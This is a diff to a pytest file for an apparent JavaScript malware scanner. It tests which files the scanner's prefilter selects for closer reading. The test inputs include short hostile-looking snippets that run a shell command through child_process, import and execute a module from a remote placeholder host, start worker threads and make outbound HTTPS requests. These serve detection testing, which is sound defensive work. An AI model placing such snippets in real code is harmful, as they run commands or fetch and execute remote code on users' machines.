@@ -8,15 +8,23 @@ import re
 
 import pytest
 
-from assay.scanner.code.javascript_prefilter import Scanned, candidates, scanner
+from assay.scanner.code.javascript_prefilter import Scanned, candidates, scanner, settled
 from assay.scanner.code.javascript_windows import excerpt
 from tests.code.javascript_attacks import ATTACKS
 
 _PLAIN_TEXT = re.compile(r'"([\w .:/-]{6,})"')
 
 
+_MORE = "function merge(a, b) { return { ...a, ...b }; }\n" * 400
+"""Innocent code that makes a file too large to be parsed for what it names alone."""
+
+
+def _settled(data: bytes, path: str, unasked: tuple[str, ...]) -> dict[str, Scanned]:
+    return settled({path: scanner().scan(data, path)}, unasked, {path: data}.get)
+
+
 def _chosen(text: str, path: str = "lib/a.js") -> bool:
-    files = {path: scanner().scan(text.encode(), path)}
+    files = _settled(text.encode(), path, (path,))
     return path in candidates(files, {path: ()}, [path], ())
 
 
@@ -112,7 +120,28 @@ def test_an_innocent_bundle_is_not_read() -> None:
     ],
 )
 def test_what_runs_only_when_called_is_not_read(source: str) -> None:
-    assert not _chosen(source)
+    assert not _chosen(source + _MORE)
+
+
+@pytest.mark.parametrize("name", ["spawned-on-import"])
+def test_what_runs_unasked_is_read_in_larger_files(name: str) -> None:
+    assert _chosen(ATTACKS[name] + _MORE)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'const { execSync: go } = require("child_process");\ngo("id");\n',
+        'import("https://example.invalid/a.mjs").then((made) => made.default());\n',
+        'const { Worker } = require("worker_threads");\nnew Worker(where());\n',
+        'const load = globalThis[where()];\nload("a");\n',
+        'require("https").get(where());\n',
+    ],
+)
+def test_small_files_are_read_for_what_they_name_where_they_are_loaded(source: str) -> None:
+    assert _chosen(source)
+    seen = {"a.js": scanner().scan(source.encode(), "a.js")}
+    assert not candidates(settled(seen, (), {"a.js": source.encode()}.get), {}, (), ())
 
 
 def test_what_a_package_loads_is_seen_as_written() -> None:
@@ -121,9 +150,23 @@ def test_what_a_package_loads_is_seen_as_written() -> None:
 
 
 def test_what_is_called_unasked_is_read_only_where_the_file_is_loaded() -> None:
-    seen = scanner().scan(ATTACKS["spawned-on-import"].encode(), "a.js")
-    assert candidates({"a.js": seen}, {}, ["a.js"], ()) == {"a.js"}
-    assert candidates({"a.js": seen}, {}, [], ()) == frozenset()
+    data = ATTACKS["spawned-on-import"].encode()
+    assert candidates(_settled(data, "a.js", ("a.js",)), {}, ["a.js"], ()) == {"a.js"}
+    assert candidates(_settled(data, "a.js", ()), {}, [], ()) == frozenset()
+
+
+def test_of_a_little_package_all_is_read_that_is_loaded_with_what_may_do_something() -> None:
+    tools = b'exports.go = require("child_process").execSync;'
+    files = {
+        "index.js": scanner().scan(b'require("./tools").go("id");', "index.js"),
+        "tools.js": scanner().scan(tools, "tools.js"),
+        "other.js": Scanned(frozenset(), (), 10),
+    }
+    loads = {"index.js": ("tools.js",), "tools.js": (), "other.js": ()}
+    for size, chosen in ((100, {"index.js", "tools.js"}), (1 << 20, {"tools.js"})):
+        of_size = {**files, "far.js": Scanned(frozenset(), (), size)}
+        loaded = [path for path in of_size if path != "other.js"]
+        assert candidates(settled(of_size, loaded, {"tools.js": tools}.get), loads, loaded, ()) == chosen
 
 
 def test_what_runs_at_install_is_read_with_all_that_it_loads() -> None:
